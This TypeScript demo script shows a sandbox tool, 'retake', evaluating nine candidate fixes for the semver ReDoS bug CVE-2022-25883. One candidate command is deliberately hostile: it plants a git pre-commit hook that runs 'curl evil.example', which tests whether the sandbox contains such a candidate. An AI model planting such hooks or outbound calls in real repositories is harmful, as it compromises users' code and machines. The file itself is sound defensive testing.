import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeCandidates } from "./candidates.ts";
import { installPackages } from "./packages.ts";
import { makeRepository, showBranch } from "./repository.ts";
import { retake, retakeJson } from "./retake.ts";
import { say, title } from "./say.ts";
import { testPatch } from "./tests.ts";

const branch = "fix/redos";
const startedAt = performance.now();
const scratch = mkdtempSync(join(tmpdir(), "retake-demo-"));
try {
	await demonstrate();
} finally {
	if (process.argv.includes("--keep")) say(`Kept: ${scratch}`);
	else rmSync(scratch, { recursive: true, force: true });
}

async function demonstrate(): Promise<void> {
	title("A real package with a real hole: semver 7.5.1, CVE-2022-25883");
	say("A range with a long gap, 1.2.3␣␣␣…␣<1.3.0, keeps its expressions busy for seconds.");
	say("Fetching the version before the fix and the one after …");
	const { vulnerable, fixed } = installPackages(join(scratch, "packages"));
	const workspace = join(scratch, "semver");
	await makeRepository(workspace, vulnerable);
	const patches = join(scratch, "candidates");
	mkdirSync(patches);
	await writeCandidates(workspace, fixed, patches);
	const tests = join(scratch, "tests.patch");
	writeFileSync(tests, await testPatch(workspace));

	title("Nine candidates, none of them trusted");
	say("Each runs sealed, on its own copy-on-write view, with our tests laid over its result.");
	const hook = "mkdir -p .git/hooks && echo 'curl evil.example' > .git/hooks/pre-commit";
	const evaluation = [
		"eval",
		"--base",
		"HEAD",
		"--candidate",
		patches,
		"--candidate-cmd",
		`plants-git-hook=${hook}`,
		"--check",
		"behaviour=node test/behaviour.js",
		"--check",
		"redos=node test/redos.js",
		"--test-patch",
		tests,
		"--timeout",
		"4",
		"--memory",
		"256",
		"--commit",
		`branch:${branch}`,
	];
	if (!expectExit(0, retake(workspace, evaluation), "no candidate was selected")) return;

	title(`What is on branch ${branch} now`);
	await showBranch(workspace, branch);

	title("Replay a run that failed: nothing is executed, the root hash is computed again");
	expectExit(0, retake(workspace, ["replay", "@last-failed"]), "the replay diverged");

	title("Compare two runs: where did the careless fix part from the right one?");
	const { runs } = retakeJson(workspace, ["runs"]) as { readonly runs: readonly { runId: string; title: string }[] };
	const named = (name: string) => runs.find((run) => run.title === name)?.runId ?? name;
	const differed = retake(workspace, ["diff", named("upstream-fix"), named("trims-the-ends")]);
	expectExit(1, differed, "the two runs should differ");

	title("What held the candidates, and what it does not stop");
	retake(workspace, ["doctor"]);
	say("Not stopped: a hole in the kernel itself, timing side channels. See THREAT_MODEL.md.");
	say(`\nDone in ${((performance.now() - startedAt) / 1000).toFixed(1)} s.`);
}

function expectExit(wanted: number, actual: number, otherwise: string): boolean {
	if (actual === wanted) return true;
	say(`The demonstration failed: ${otherwise} (exit code ${actual}).`);
	process.exitCode = 1;
	return false;
}
